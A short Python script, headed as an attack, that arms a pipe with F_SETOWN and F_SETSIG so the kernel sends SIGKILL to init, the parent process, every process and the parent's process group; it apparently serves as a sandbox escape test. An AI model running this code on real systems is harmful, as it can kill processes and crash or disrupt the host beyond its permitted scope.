# attack: has the kernel send signals to others, as the owner of a file whose state changes
import fcntl
import os
import signal
import struct

read, write = os.pipe()
for owner in (1, os.getppid(), -1, -os.getpgid(os.getppid() or 1)):
    try:
        fcntl.fcntl(read, fcntl.F_SETOWN, owner)
        fcntl.fcntl(read, 10, signal.SIGKILL)  # F_SETSIG
        fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(write, b"x")
    except (OSError, ValueError):
        pass
print("still here")
